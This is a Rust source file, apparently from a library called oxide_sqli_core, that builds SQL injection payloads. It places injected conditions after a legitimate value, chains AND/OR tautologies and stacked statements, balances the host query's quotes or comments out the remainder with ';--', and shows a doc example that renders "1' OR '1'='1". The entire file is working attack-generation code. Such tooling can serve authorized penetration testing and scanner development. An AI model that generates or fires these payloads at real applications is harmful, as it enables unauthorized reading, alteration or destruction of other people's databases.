//! SQL injection payloads.
//!
//! An [`Injection`] is spliced into a host query right after a legitimate
//! value. It starts from a place-holder matching that value's kind, grows
//! with `AND`/`OR` conditions, clauses and trailing statements, and is then
//! rendered so that its quotes pair up with the host's own, or the rest of
//! the host query is commented out.
//!
//! ```rust
//! use oxide_sqli_core::{Config, EscapeContext, Expr, Injection, InjectionOptions};
//!
//! let sqli = Injection::new(EscapeContext::String)
//!     .or(Expr::string(1).eq(Expr::string(1)));
//!
//! assert_eq!(
//!     sqli.to_sql(&Config::default(), InjectionOptions::default()),
//!     "1' OR '1'='1"
//! );
//! ```

use std::fmt;
use std::str::FromStr;

use serde::Deserialize;
use tracing::debug;

use crate::ast::{BinaryOp, Clause, Clauses, Expr, Statement, Statements};
use crate::config::Config;
use crate::emitter::Emitter;
use crate::error::{ConfigError, Result};

/// Comment terminator appended to payloads.
pub const TERMINATOR: &str = ";--";

/// The kind of value the host query expects where the payload lands.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Deserialize)]
#[serde(try_from = "String")]
pub enum EscapeContext {
    /// `... WHERE id=<here>`
    #[default]
    Integer,
    /// `... WHERE price=<here>`
    Decimal,
    /// `... WHERE name='<here>'`
    String,
    /// `... WHERE id IN (<here>)`
    List,
    /// `... ORDER BY <here>`
    Column,
}

impl EscapeContext {
    /// Returns the option name.
    #[must_use]
    pub const fn as_str(&self) -> &'static str {
        match self {
            Self::Integer => "integer",
            Self::Decimal => "decimal",
            Self::String => "string",
            Self::List => "list",
            Self::Column => "column",
        }
    }

    /// Returns the default place-holder for this context.
    #[must_use]
    pub fn place_holder(&self) -> Expr {
        match self {
            Self::Integer => Expr::int(1),
            Self::Decimal => Expr::float(1.0),
            Self::String => Expr::string("1"),
            Self::List => Expr::list([Expr::null()]),
            Self::Column => Expr::ident("id"),
        }
    }

    /// Returns whether the payload opens inside a delimiter of the host
    /// query (a quote or a parenthesis) that must be balanced.
    #[must_use]
    pub const fn is_delimited(&self) -> bool {
        matches!(self, Self::String | Self::List)
    }
}

impl FromStr for EscapeContext {
    type Err = ConfigError;

    fn from_str(s: &str) -> Result<Self> {
        match s {
            "integer" => Ok(Self::Integer),
            "decimal" => Ok(Self::Decimal),
            "string" => Ok(Self::String),
            "list" => Ok(Self::List),
            "column" => Ok(Self::Column),
            other => Err(ConfigError::InvalidEscape(other.to_string())),
        }
    }
}

impl TryFrom<String> for EscapeContext {
    type Error = ConfigError;

    fn try_from(value: String) -> Result<Self> {
        value.parse()
    }
}

impl fmt::Display for EscapeContext {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// Per-render options.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct InjectionOptions {
    /// Terminate the payload with `;--`.
    pub terminate: bool,
}

impl InjectionOptions {
    /// Options requesting termination.
    #[must_use]
    pub const fn terminated() -> Self {
        Self { terminate: true }
    }
}

/// A SQL injection payload.
///
/// The place-holder should match the escape context; a mismatch (a string
/// place-holder in an integer context, say) is rendered as given.
#[derive(Debug, Clone, PartialEq)]
pub struct Injection {
    escape: EscapeContext,
    place_holder: Expr,
    expression: Expr,
    clauses: Vec<Clause>,
    statements: Vec<Statement>,
    terminate: bool,
}

impl Injection {
    /// Creates an injection with the context's default place-holder.
    #[must_use]
    pub fn new(escape: EscapeContext) -> Self {
        Self::with_place_holder(escape, escape.place_holder())
    }

    /// Creates an injection with a custom place-holder.
    #[must_use]
    pub fn with_place_holder(escape: EscapeContext, place_holder: impl Into<Expr>) -> Self {
        let place_holder = place_holder.into();
        Self {
            escape,
            expression: place_holder.clone(),
            place_holder,
            clauses: vec![],
            statements: vec![],
            terminate: false,
        }
    }

    /// Always terminates the payload with `;--`, whatever the render options.
    #[must_use]
    pub fn terminate(mut self, terminate: bool) -> Self {
        self.terminate = terminate;
        self
    }

    /// Appends `AND <expr>`.
    #[must_use]
    pub fn and(self, expr: impl Into<Expr>) -> Self {
        self.extend(BinaryOp::And, expr.into())
    }

    /// Appends `OR <expr>`.
    #[must_use]
    pub fn or(self, expr: impl Into<Expr>) -> Self {
        self.extend(BinaryOp::Or, expr.into())
    }

    fn extend(mut self, op: BinaryOp, expr: Expr) -> Self {
        let current = std::mem::replace(&mut self.expression, Expr::null());
        self.expression = current.binary(op, expr);
        self
    }

    /// Returns the escape context.
    #[must_use]
    pub const fn escape(&self) -> EscapeContext {
        self.escape
    }

    /// Returns the place-holder.
    #[must_use]
    pub const fn place_holder(&self) -> &Expr {
        &self.place_holder
    }

    /// Returns the injected expression.
    #[must_use]
    pub const fn expression(&self) -> &Expr {
        &self.expression
    }

    /// Renders the payload.
    ///
    /// Quoted (`string`) and parenthesized (`list`) contexts drop their
    /// leading delimiter, which the host query already emitted. When the
    /// payload also ends with that same character (a quote), the trailing
    /// one is dropped too and the host's own closing quote takes its place;
    /// otherwise the payload is terminated with `;--`. A list payload opens
    /// with `(` and never ends with it, so it is always terminated.
    #[must_use]
    pub fn to_sql(&self, config: &Config, options: InjectionOptions) -> String {
        let emitter = Emitter::new(config);
        let terminate = self.terminate || options.terminate;

        let mut sql = emit_chain(&emitter, &self.expression);

        if !self.clauses.is_empty() {
            sql.push_str(config.space());
            sql.push_str(&emitter.emit_clauses(&self.clauses));
        }

        if !self.statements.is_empty() {
            sql.push_str("; ");
            sql.push_str(&emitter.emit_program(&self.statements));
        }

        if self.escape.is_delimited() {
            if terminate || !is_balanced(&sql) {
                push_terminator(&mut sql);
            } else {
                sql.pop();
            }
            sql.remove(0);
        } else if terminate {
            push_terminator(&mut sql);
        }

        debug!(escape = %self.escape, terminated = terminate, sql = %sql, "rendered injection");
        sql
    }
}

/// Renders the AND/OR chain grown by [`Injection::and`] / [`Injection::or`]
/// in append order, the way the host query will read it.
fn emit_chain(emitter: &Emitter<'_>, expr: &Expr) -> String {
    match expr {
        Expr::Binary {
            left,
            op: op @ (BinaryOp::And | BinaryOp::Or),
            right,
        } => emitter.emit_binary(emit_chain(emitter, left), *op, right),
        other => emitter.emit(other),
    }
}

/// Whether the payload opens and closes with the same quote character.
fn is_balanced(sql: &str) -> bool {
    let mut chars = sql.chars();
    match (chars.next(), chars.next_back()) {
        (Some(first), Some(last)) => first == last,
        _ => false,
    }
}

fn push_terminator(sql: &mut String) {
    if !sql.ends_with("--") {
        sql.push_str(TERMINATOR);
    }
}

impl Clauses for Injection {
    fn clauses(&self) -> &[Clause] {
        &self.clauses
    }

    fn clauses_mut(&mut self) -> &mut Vec<Clause> {
        &mut self.clauses
    }
}

impl Statements for Injection {
    fn statements(&self) -> &[Statement] {
        &self.statements
    }

    fn statements_mut(&mut self) -> &mut Vec<Statement> {
        &mut self.statements
    }
}
